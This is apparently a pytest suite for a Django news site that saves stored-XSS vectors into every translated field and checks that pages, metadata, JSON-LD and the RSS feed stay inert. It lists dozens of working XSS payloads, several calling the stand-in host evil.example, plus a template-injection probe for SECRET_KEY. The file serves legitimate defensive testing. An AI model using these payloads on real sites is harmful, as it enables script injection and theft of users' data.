"""
Stored cross-site scripting: classic vectors saved in every field a reader
sees, then every public page that shows them read back as a browser would.

The fields come from modeltranslation's registry (a new translated field is
covered without touching this file): rich text goes through the editor's
sanitiser, plain text must come out escaped wherever it is printed, in HTML,
attributes (Open Graph), JSON-LD and the RSS feed. Each vector is saved
through the ORM (the import path, fixtures, the shell) and, for the article,
through the admin's real change form.
"""

import datetime
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import pytest
from django.db import models
from django.utils import timezone
from django_prose_editor.fields import ProseEditorField
from modeltranslation.translator import translator

from articles.models import (
    Article,
    Correction,
    Event,
    Organization,
    Page,
    Participation,
    Person,
    TranslationStatus,
)
from tests.pages import admin_form, change_url, url_in
from tests.strategies import leaks, unsafe_markup

pytestmark = pytest.mark.django_db

SHANGHAI = ZoneInfo("Asia/Shanghai")
LANGUAGES = ["en", "zh-hans"]
#: A word every article body carries, so the search finds the article.
SEARCH_WORD = "qxzvector"

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img src="x" alt="" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://example.org/" onclick="alert(1)">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="width: expression(alert(1))">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ settings.SECRET_KEY }}{% debug %}",
]


def translated_fields():
    """
    Every translated column of every registered model, by model:
    ``{Article: [title_en, title_zh_hans, body_en, …]}`` as field objects.
    """
    fields = {}
    for model in translator.get_registered_models():
        options = translator.get_options_for_model(model)
        fields[model] = [
            column
            for columns in options.all_fields.values()
            for column in sorted(columns, key=lambda f: f.name)
        ]
    return fields


def is_rich(field):
    return isinstance(field, ProseEditorField)


def fitted(vector, field):
    """``vector`` cut to what the column holds (a long vector still starts hostile)."""
    return vector[: field.max_length] if field.max_length else vector


def hostile_values(model, vector):
    """Each translated column of ``model`` holding ``vector``."""
    values = {}
    for field in translated_fields()[model]:
        if is_rich(field):
            values[field.name] = f"<p>{SEARCH_WORD}</p>{vector}"
        else:
            values[field.name] = fitted(vector, field)
    return values


def reviewed():
    return {
        "translation_status_en": TranslationStatus.REVIEWED,
        "translation_status_zh_hans": TranslationStatus.REVIEWED,
    }


def build_world(vector):
    """
    One object of each registered kind, linked as the news links them,
    every reader-visible text field holding ``vector``: the import path,
    which saves through the ORM without a form.
    """
    parent = Organization.objects.create(
        slug="xss-parent", **hostile_values(Organization, vector), **reviewed()
    )
    organization = Organization.objects.create(
        slug="xss-organization",
        parent=parent,
        short_name=vector[:40],
        website="javascript:alert(1)",
        **hostile_values(Organization, vector),
        **reviewed(),
    )
    event = Event.objects.create(
        slug="xss-event",
        start_date=datetime.date(2024, 3, 1),
        **hostile_values(Event, vector),
        **reviewed(),
    )
    event.organisers.add(organization)
    person = Person.objects.create(
        slug="xss-person", **hostile_values(Person, vector), **reviewed()
    )
    Participation.objects.create(
        event=event,
        person=person,
        organization=organization,
        **hostile_values(Participation, vector),
        **reviewed(),
    )
    article = Article.objects.create(
        slug="xss-article",
        status=Article.Status.PUBLISHED,
        published_at=datetime.datetime(2024, 3, 15, 10, tzinfo=SHANGHAI),
        **hostile_values(Article, vector),
        **reviewed(),
    )
    article.events.add(event)
    article.organizations.add(organization)
    Correction.objects.create(article=article, **hostile_values(Correction, vector))
    Page.objects.create(slug="xss-page", **hostile_values(Page, vector), **reviewed())
    return article


def reader_pages(language):
    """Every public HTML page that shows something of the world, in ``language``."""
    return [
        url_in(language, "home"),
        url_in(language, "article-list"),
        url_in(language, "article-year", year=2024),
        url_in(language, "article-detail", slug="xss-article"),
        url_in(language, "event-list"),
        url_in(language, "event-detail", slug="xss-event"),
        url_in(language, "person-detail", slug="xss-person"),
        url_in(language, "organization-detail", slug="xss-organization"),
        url_in(language, "organization-detail", slug="xss-parent"),
        url_in(language, "page-detail", slug="xss-page"),
        url_in(language, "search") + f"?q={SEARCH_WORD}",
        url_in(language, "favorites") + "?a=xss-article",
    ]


class MetaAndDataBlocks(HTMLParser):
    """The page's ``<meta property|name content>`` values and its JSON-LD, decoded."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.meta = {}
        self.json_ld = []
        self._in_json = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "meta" and "content" in attributes:
            key = attributes.get("property") or attributes.get("name")
            self.meta[key] = attributes["content"]
        self._in_json = (
            tag == "script" and attributes.get("type") == "application/ld+json"
        )

    def handle_data(self, data):
        if self._in_json:
            self.json_ld.append(json.loads(data))

    def handle_endtag(self, tag):
        self._in_json = False


def assert_page_is_inert(client, url):
    """The page answers, runs nothing of the vector's and leaks nothing."""
    response = client.get(url)
    assert response.status_code == 200, url
    html = response.content.decode()
    assert not unsafe_markup(html), (url, unsafe_markup(html))
    assert not leaks(html), (url, leaks(html))
    return html


def assert_feed_is_inert(client, language):
    """
    Feed readers render an item's description as HTML: whatever the text,
    it must hold no markup that runs.
    """
    response = client.get(url_in(language, "feed"))
    assert response.status_code == 200
    items = ET.fromstring(response.content).iter("item")
    descriptions = [item.findtext("description") or "" for item in items]
    assert descriptions
    for description in descriptions:
        assert not unsafe_markup(description), (language, description)
    # The news sitemap lists only the last two days' news (and is not found
    # without any): the article, brought up to date, is listed there too.
    Article.objects.filter(slug="xss-article").update(published_at=timezone.now())
    news = client.get(url_in(language, "news-sitemap"))
    assert news.status_code == 200
    ET.fromstring(news.content)  # well-formed: no title broke out of its element


# The fields.


def test_every_translated_text_field_is_rich_or_plain_text():
    """A translated field of another kind (a URL, a number) needs vectors of its own."""
    for model, fields in translated_fields().items():
        for field in fields:
            assert isinstance(field, models.CharField | models.TextField), (
                model,
                field.name,
            )


def test_the_world_sets_every_translated_field():
    """Each registered model is built by ``build_world``, so each field is covered."""
    assert set(translated_fields()) == {
        Article,
        Correction,
        Event,
        Organization,
        Page,
        Participation,
        Person,
    }


# Saved through the ORM, read on every page.


def language_of(vector):
    """
    The language each vector is read in, alternating down the list: the
    templates are the same in both, so every page is read in both languages
    across the vectors, at half the cost.
    """
    return LANGUAGES[VECTORS.index(vector) % len(LANGUAGES)]


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_saved_anywhere_runs_on_no_page(client, vector):
    """
    Every page showing the world is inert, and the article's Open Graph
    title and JSON-LD headline read back as the very text saved ("</script>"
    included): escaped, neither broken out of nor mangled.
    """
    build_world(vector)
    language = language_of(vector)
    for url in reader_pages(language):
        html = assert_page_is_inert(client, url)
        if "/news/xss-article/" in url:
            blocks = MetaAndDataBlocks()
            blocks.feed(html)
            title = fitted(vector, Article._meta.get_field("title_en"))
            assert blocks.meta["og:title"] == title
            assert blocks.meta["twitter:title"] == title
            assert [data["headline"] for data in blocks.json_ld] == [title]
    assert_feed_is_inert(client, language)


def test_rich_text_keeps_what_the_editor_allows(client):
    """The sanitiser is an allow-list, not a wall: links, tables and figures stay."""
    build_world(
        '<a href="https://example.org/">link</a><table><tr><td>cell</td></tr></table>'
    )
    html = assert_page_is_inert(
        client, url_in("en", "article-detail", slug="xss-article")
    )
    assert '<a href="https://example.org/"' in html
    assert "<td>cell</td>" in html or "<td><p>cell</p></td>" in html


# Saved through the admin's change form.


@pytest.fixture
def editor_client(client, django_user_model):
    """
    A superuser's client. Without a password: hashing one for each of the
    many vectors would cost more than the test (django-axes asks for
    ``force_login`` anyway).
    """
    editor = django_user_model.objects.create_superuser("editor", password=None)
    client.force_login(editor)
    return client


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_saved_through_the_admin_runs_on_no_page(editor_client, vector):
    """
    The editor's real change form, every translated field and the correction
    inline in both languages: the rich text comes back sanitised, the plain
    text saved as typed and printed escaped.
    """
    article = build_world("Quiet words")
    form = admin_form(editor_client, change_url(article), "article_form")
    text_fields = {
        field.name
        for fields in translated_fields().values()
        for field in fields
        if not is_rich(field)
    }
    rich_fields = {
        field.name
        for fields in translated_fields().values()
        for field in fields
        if is_rich(field)
    }
    changed = 0
    for name in form.fields:
        column = name.rsplit("-", 1)[-1]
        if "__prefix__" in name:
            continue
        if column in rich_fields:
            form[name] = f"<p>{SEARCH_WORD}</p>{vector}"
            changed += 1
        elif column in text_fields:
            form[name] = vector
            changed += 1
    assert changed >= 9  # title, standfirst, body, alt text, correction; twice
    response = form.submit("_save")
    assert response.status_code == 302, response.context["errors"]
    article.refresh_from_db()
    assert article.title_zh_hans == vector
    assert article.corrections.get().note_en == vector

    editor_client.logout()
    language = language_of(vector)
    assert_page_is_inert(
        editor_client, url_in(language, "article-detail", slug="xss-article")
    )
    assert_page_is_inert(
        editor_client, url_in(language, "search") + f"?q={SEARCH_WORD}"
    )
    assert_feed_is_inert(editor_client, language)


# Defects found by the tests above, pinned.


def test_a_stored_website_that_is_not_a_web_address_is_shown_but_not_linked(client):
    """
    It was a link: the URL field's validation runs only in forms, so an
    import could make "javascript:…" the organisation's website link.
    """
    Organization.objects.create(
        slug="imported", name_en="Imported", website="javascript:alert(1)"
    )
    Organization.objects.create(
        slug="checked", name_en="Checked", website="https://www.cqc.com.cn/"
    )
    imported = assert_page_is_inert(
        client, url_in("en", "organization-detail", slug="imported")
    )
    assert "<dd>javascript:alert(1)</dd>" in imported
    checked = client.get(url_in("en", "organization-detail", slug="checked"))
    assert b'<a href="https://www.cqc.com.cn/" rel="external">' in checked.content


def test_the_feed_gives_a_plain_text_standfirst_as_escaped_html(client):
    """It was raw: feed readers render a description as HTML and ran its markup."""
    build_world("Quiet words")
    Article.objects.filter(slug="xss-article").update(
        standfirst_en="<b>Bold</b> & <script>alert(1)</script>"
    )
    response = client.get(url_in("en", "feed"))
    description = ET.fromstring(response.content).find("channel/item/description")
    assert description.text == (
        "&lt;b&gt;Bold&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;"
    )
